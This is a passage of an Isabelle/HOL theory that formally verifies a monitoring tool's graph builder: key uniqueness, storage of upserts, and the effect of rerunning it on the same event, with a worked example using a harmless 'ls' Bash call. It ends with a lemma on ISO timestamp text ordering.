  with NodeOp have "node_id db (t, v) \<noteq> None" by (simp add: node_done_def)
  with NodeOp show ?thesis using node_id_present[of db "(t, v)"] by (simp add: op_stored_def)
next
  case (EdgeOp k1 k2 rel)
  assume "op_done ev db op"
  with EdgeOp show ?thesis
    by (auto simp: op_stored_def op_edge_key_def edge_done_def split: option.splits)
qed

lemma unique_keys_run_op:
  "unique_keys db \<Longrightarrow> unique_keys (run_op uuid4 now ev op db)"
  by (cases op)
     (simp_all add: run_op_def upsert_node_def upsert_edge_def unique_keys_save_graph_node
        unique_keys_save_graph_edge split: option.splits)

lemma unique_keys_fold_run_op:
  "unique_keys db \<Longrightarrow> unique_keys (fold (run_op uuid4 now ev) ops db)"
  by (induction ops arbitrary: db) (simp_all add: unique_keys_run_op)

lemma session_node_upserted: "0 < node_upserts (graph_ops lib ev) (NT_SESSION, e_session_id ev)"
  by (simp add: node_upserts_def graph_ops_def session_and_tool_ops_def)

text \<open>
  Claim C7. The graph builder performs the upserts of \<open>graph_ops\<close>, in that order.
  The two upserts and the builder keep the keys unique: in a store with at most one node
  per (type, value) and at most one edge per (source, target, relation), they leave at
  most one. After a run of the builder every key it upserts is stored, the session node
  among them. A second run on the same event, at any clock reading and with any ids
  drawn, maps the stored rows one to one: no node and no edge is added; a row whose key
  the event upserts \<open>c\<close> times is last seen at the new reading and has its counters (access
  count and size of a node, count and weight of an edge) raised by \<open>c\<close>; every other
  row, and every other field and table, is as it was.
\<close>

theorem build_graph_second_run:
  "build_graph uuid4 now lib db ev = fold (run_op uuid4 now ev) (graph_ops lib ev) db
   \<and> (unique_keys db \<longrightarrow>
        unique_keys (fst (save_graph_node db node)) \<and> unique_keys (save_graph_edge db edge)
        \<and> unique_keys (build_graph uuid4 now lib db ev))
   \<and> list_all (op_stored (build_graph uuid4 now lib db ev)) (graph_ops lib ev)
   \<and> 0 < node_upserts (graph_ops lib ev) (NT_SESSION, e_session_id ev)
   \<and> build_graph uuid4' now' lib (build_graph uuid4 now lib db ev) ev =
       (build_graph uuid4 now lib db ev)
         \<lparr>db_graph_nodes :=
            map (\<lambda>r. node_seen_again now' (node_upserts (graph_ops lib ev) (node_key r)) r)
              (db_graph_nodes (build_graph uuid4 now lib db ev)),
          db_graph_edges :=
            map (\<lambda>r. edge_seen_again now'
                       (edge_upserts (build_graph uuid4 now lib db ev) (graph_ops lib ev)
                          (edge_key r)) r)
              (db_graph_edges (build_graph uuid4 now lib db ev))\<rparr>"
proof -
  let ?db1 = "build_graph uuid4 now lib db ev"
  let ?db2 = "build_graph uuid4' now' lib ?db1 ev"
  have ops: "?db1 = fold (run_op uuid4 now ev) (graph_ops lib ev) db"
    by (rule build_graph_ops_eq)
  have u: "unique_keys db \<longrightarrow>
      unique_keys (fst (save_graph_node db node)) \<and> unique_keys (save_graph_edge db edge)
      \<and> unique_keys ?db1"
    by (simp add: unique_keys_save_graph_node unique_keys_save_graph_edge
        build_graph_ops_eq unique_keys_fold_run_op)
  have d: "op_done ev ?db1 op" if "op \<in> set (graph_ops lib ev)" for op
    using build_graph_done that by blast
  have st: "list_all (op_stored ?db1) (graph_ops lib ev)"
    unfolding list_all_iff using d op_done_stored by blast
  have db2: "?db2 = fold (run_op uuid4' now' ev) (graph_ops lib ev) ?db1"
    by (rule build_graph_ops_eq)
  have rows: "db_graph_nodes ?db2 =
           map (\<lambda>r. node_seen_again now' (node_upserts (graph_ops lib ev) (node_key r)) r)
             (db_graph_nodes ?db1)
       \<and> db_graph_edges ?db2 =
           map (\<lambda>r. edge_seen_again now' (edge_upserts ?db1 (graph_ops lib ev) (edge_key r)) r)
             (db_graph_edges ?db1)"
    unfolding db2 by (rule fold_run_op_again[where ops = "graph_ops lib ev"]) (simp_all add: d)
  have frame: "db_sessions ?db2 = db_sessions ?db1" "db_events ?db2 = db_events ?db1"
    "db_alerts ?db2 = db_alerts ?db1" "db_policies ?db2 = db_policies ?db1"
    unfolding db2 by (rule fold_run_op_frame)+
  have eq: "?db2 = ?db1
         \<lparr>db_graph_nodes :=
            map (\<lambda>r. node_seen_again now' (node_upserts (graph_ops lib ev) (node_key r)) r)
              (db_graph_nodes ?db1),
          db_graph_edges :=
            map (\<lambda>r. edge_seen_again now' (edge_upserts ?db1 (graph_ops lib ev) (edge_key r)) r)
              (db_graph_edges ?db1)\<rparr>"
    by (rule database.equality) (simp_all add: rows frame)
  show ?thesis
    by (intro conjI ops u st session_node_upserted eq)
qed

text \<open>
  Witness for C7: the builder run twice on a Bash call that runs \<open>ls\<close>, from the empty
  store. The first run stores four nodes (session, tool, command group, process) and
  three edges, each key upserted once; the second adds none, raises each counter from 1
  to 2 and sets each last-seen time to the new reading.
\<close>

lemma ls_graph_rows:
  "unique_keys empty_database"
  "map node_key (db_graph_nodes ls_graph) =
     [(NT_SESSION, ''s1''), (NT_TOOL, ''Bash:s1''), (NT_COMMAND, ''cmdgroup:ls:s1''),
      (NT_PROCESS, ''ls'')]"
  "map edge_key (db_graph_edges ls_graph) = [(1, 2, USES), (2, 4, EXECUTES), (4, 6, EXECUTES)]"
  "map n_id (db_graph_nodes ls_graph) = [1, 2, 4, 6]"
  "map n_access_count (db_graph_nodes ls_graph) = [1, 1, 1, 1]"
  "map ge_count (db_graph_edges ls_graph) = [1, 1, 1]"
  "map (node_upserts (graph_ops quiet_lib ls_bash_event)) (map node_key (db_graph_nodes ls_graph))
     = [1, 1, 1, 1]"
  "map (edge_upserts ls_graph (graph_ops quiet_lib ls_bash_event))
     (map edge_key (db_graph_edges ls_graph)) = [1, 1, 1]"
  by code_simp+

lemma ls_graph_again_rows:
  "map n_access_count
     (map (\<lambda>r. node_seen_again 20 (node_upserts (graph_ops quiet_lib ls_bash_event) (node_key r)) r)
        (db_graph_nodes ls_graph)) = [2, 2, 2, 2]"
  "map n_last_seen
     (map (\<lambda>r. node_seen_again 20 (node_upserts (graph_ops quiet_lib ls_bash_event) (node_key r)) r)
        (db_graph_nodes ls_graph)) = [20, 20, 20, 20]"
  "map ge_count
     (map (\<lambda>r. edge_seen_again 20
                 (edge_upserts ls_graph (graph_ops quiet_lib ls_bash_event) (edge_key r)) r)
        (db_graph_edges ls_graph)) = [2, 2, 2]"
  by code_simp+

theorem build_graph_second_run_witness:
  "unique_keys empty_database \<and> unique_keys ls_graph
   \<and> list_all (op_stored ls_graph) (graph_ops quiet_lib ls_bash_event)
   \<and> map n_id (db_graph_nodes ls_graph) = [1, 2, 4, 6]
   \<and> map n_access_count (db_graph_nodes ls_graph) = [1, 1, 1, 1]
   \<and> map n_access_count (db_graph_nodes ls_graph_again) = [2, 2, 2, 2]
   \<and> map n_last_seen (db_graph_nodes ls_graph_again) = [20, 20, 20, 20]
   \<and> map ge_count (db_graph_edges ls_graph) = [1, 1, 1]
   \<and> map ge_count (db_graph_edges ls_graph_again) = [2, 2, 2]"
proof -
  note T = build_graph_second_run[where db = empty_database and ?uuid4.0 = next_id and now = 10
      and lib = quiet_lib and ev = ls_bash_event and uuid4' = next_id and now' = 20,
      folded ls_graph_def, folded ls_graph_again_def]
  have u: "unique_keys ls_graph"
    by (rule T[THEN conjunct2, THEN conjunct1, THEN mp, OF ls_graph_rows(1), THEN conjunct2,
          THEN conjunct2])
  have s: "list_all (op_stored ls_graph) (graph_ops quiet_lib ls_bash_event)"
    by (rule T[THEN conjunct2, THEN conjunct2, THEN conjunct1])
  note again = T[THEN conjunct2, THEN conjunct2, THEN conjunct2, THEN conjunct2]
  have n: "db_graph_nodes ls_graph_again =
      map (\<lambda>r. node_seen_again 20 (node_upserts (graph_ops quiet_lib ls_bash_event) (node_key r)) r)
        (db_graph_nodes ls_graph)"
    by (subst again) simp
  have e: "db_graph_edges ls_graph_again =
      map (\<lambda>r. edge_seen_again 20
                 (edge_upserts ls_graph (graph_ops quiet_lib ls_bash_event) (edge_key r)) r)
        (db_graph_edges ls_graph)"
    by (subst again) simp
  have a: "map n_access_count (db_graph_nodes ls_graph_again) = [2, 2, 2, 2]"
    "map n_last_seen (db_graph_nodes ls_graph_again) = [20, 20, 20, 20]"
    unfolding n by (rule ls_graph_again_rows)+
  have c: "map ge_count (db_graph_edges ls_graph_again) = [2, 2, 2]"
    unfolding e by (rule ls_graph_again_rows)
  from ls_graph_rows(1) u s ls_graph_rows(4,5) a ls_graph_rows(6) c show ?thesis
    by (intro conjI)
qed

subsection \<open>Timeline statistics\<close>




































text \<open>
  The time range is compared on the ISO texts: a row stored as 02:30:00+02:00 is after
  the bound 02:00:00+00:00 as a text and is not selected, although its instant, 00:30
  UTC, lies before the bound. Half a second past midnight is written with a fraction,
  and an offset of minus five and a half hours as \<open>-05:30\<close>.
\<close>

lemma iso_text_order_example:
  "\<not> iso_le \<lparr>dt_wall = jan_1_2024 + 150 * usec_minute, dt_utcoffset = Some 120\<rparr>
           (utc_at (jan_1_2024 + 2 * usec_hour))
   \<and> utc_instant \<lparr>dt_wall = jan_1_2024 + 150 * usec_minute, dt_utcoffset = Some 120\<rparr>
        \<le> utc_instant (utc_at (jan_1_2024 + 2 * usec_hour))
   \<and> iso_le (utc_at jan_1_2024) (utc_at (jan_1_2024 + 500000))
   \<and> iso_tail (utc_at (jan_1_2024 + 500000)) = ''.500000+00:00''
   \<and> iso_tail \<lparr>dt_wall = jan_1_2024, dt_utcoffset = Some (- 330)\<rparr> = ''-05:30''"
  by code_simp

end
